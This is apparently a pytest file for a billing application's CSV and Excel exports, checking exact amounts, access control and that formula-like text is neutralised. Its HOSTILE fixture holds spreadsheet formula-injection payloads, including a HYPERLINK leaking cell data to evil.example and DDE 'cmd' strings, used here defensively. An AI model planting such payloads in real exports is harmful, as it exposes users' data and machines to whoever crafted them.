"""Exports of the contracts concerned by a pro forma: CSV and Excel, amounts exact."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from domain.errors import AccessDenied
from tests.workflow.reviewkit import seen_echeances as lines
from workflow.billing import proformas
from workflow.reporting import exports


@pytest.fixture
def made(world, factory):
    ids = world.eligible(world.cfa1_id)
    with factory.begin() as s:
        return proformas.generate_summary(s, world.cfa1, "pedagogie", lines(s, ids))


def test_csv_lists_every_line_with_exact_amounts(world, factory, made):
    invoice = made[0]
    with factory() as s:
        export = exports.export_lines(s, world.cfa1, invoice.id)
        file = exports.export_csv(s, world.cfa1, invoice.id)
    assert file.filename == f"Contrats_{invoice.number}.csv"
    assert file.data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(file.data.decode("utf-8-sig")), delimiter=";"))
    assert list(rows[0]) == list(exports.COLUMNS)
    assert len(rows) == len(export.lines)
    amounts = [Decimal(r["Montant"].replace(",", ".")) for r in rows]
    assert sum(amounts) == invoice.total == export.total
    assert {r["N° pro forma"] for r in rows} == {invoice.number}
    assert {r["Type"] for r in rows} == {"Pédagogie"}
    assert rows[0]["Période acompte"].startswith("Du ")


def test_excel_has_decimal_amounts_and_a_total(world, factory, made):
    credit = made[1]
    with factory() as s:
        file = exports.export_excel(s, world.cfa1, credit.id)
    sheet = openpyxl.load_workbook(io.BytesIO(file.data)).active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == list(exports.COLUMNS)
    col = exports.COLUMNS.index("Montant")
    lines, total_row = values[1:-1], values[-1]
    assert [Decimal(str(r[col])) for r in lines] == [Decimal("-295.89")]
    assert total_row[col - 1] == "Total" and Decimal(str(total_row[col])) == Decimal("-295.89")
    assert sheet.cell(row=2, column=col + 1).number_format == exports.EURO_FORMAT
    assert lines[0][exports.COLUMNS.index("Statut")] == "Rupture"


def test_staff_may_export_and_another_cfa_may_not(world, factory, made):
    with factory() as s:
        assert exports.export_csv(s, world.instructeur, made[0].id).data
        with pytest.raises(AccessDenied):
            exports.export_csv(s, world.cfa2, made[0].id)


# Issue 17 item 9: text from upstream contract data never becomes a live formula
HOSTILE = {"employer": '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")',
           "last_name": "@SUM(1+1)*cmd|' /C calc'!A0", "first_name": "+33 6 12",
           "title": "-2+3+cmd|' /C calc'!A0", "siret": "\t=1+1"}


def _poison(factory, export_id: int) -> None:
    from sqlalchemy import select

    from db.models import Apprentice, Contract, Employer, ProFormaLine

    with factory.begin() as s:
        contract = s.scalars(select(Contract).join(
            ProFormaLine, ProFormaLine.contract_id == Contract.id)
            .where(ProFormaLine.pro_forma_id == export_id)).first()
        s.get_one(Employer, contract.employer_id).name = HOSTILE["employer"]
        apprentice = s.get_one(Apprentice, contract.apprentice_id)
        apprentice.last_name, apprentice.first_name = HOSTILE["last_name"], HOSTILE["first_name"]
        contract.title = HOSTILE["title"]


def test_formula_like_text_is_quoted_in_excel_and_numbers_stay_numbers(world, factory, made):
    invoice = made[0]
    _poison(factory, invoice.id)
    with factory() as s:
        file = exports.export_excel(s, world.cfa1, invoice.id)
    sheet = openpyxl.load_workbook(io.BytesIO(file.data)).active
    cells = {sheet.cell(row=1, column=c).value: sheet.cell(row=2, column=c)
             for c in range(1, len(exports.COLUMNS) + 1)}
    for name in ("Employeur", "Apprenti", "Libellé"):
        assert cells[name].data_type == "s", (name, cells[name].value)
        assert cells[name].value.startswith("'")
    assert cells["Employeur"].value == "'" + HOSTILE["employer"]
    assert cells["Libellé"].value == "'" + HOSTILE["title"]
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    # amounts are numbers, not quoted text (negative ones too: test_neutral_quotes_text_only)
    assert cells["Montant"].data_type == "n" and Decimal(str(cells["Montant"].value)) > 0


def test_formula_like_text_is_quoted_in_csv(world, factory, made):
    invoice = made[0]
    _poison(factory, invoice.id)
    with factory() as s:
        file = exports.export_csv(s, world.cfa1, invoice.id)
    rows = list(csv.DictReader(io.StringIO(file.data.decode("utf-8-sig")), delimiter=";"))
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert not [v for r in rows for k, v in r.items() if k != "Montant" and v.startswith(risky)]
    assert any(r["Employeur"].startswith("'=HYPERLINK") for r in rows)


def test_neutral_quotes_text_only():
    assert exports.neutral("=1+1") == "'=1+1" and exports.neutral("\r=1") == "'\r=1"
    assert exports.neutral("-12,50") == "'-12,50"  # text that looks like a number is text
    assert exports.neutral(Decimal("-12.50")) == Decimal("-12.50") and exports.neutral(-3) == -3
    assert exports.neutral("CFA =") == "CFA ="


def test_dashboard_csv_cells_are_quoted_but_amounts_are_not():
    from console.dashboard_widgets import csv_cell

    assert csv_cell('=HYPERLINK("x")') == "'=HYPERLINK(\"x\")"
    assert csv_cell(Decimal("-295.89")) == "-295.89" and csv_cell(-4) == -4
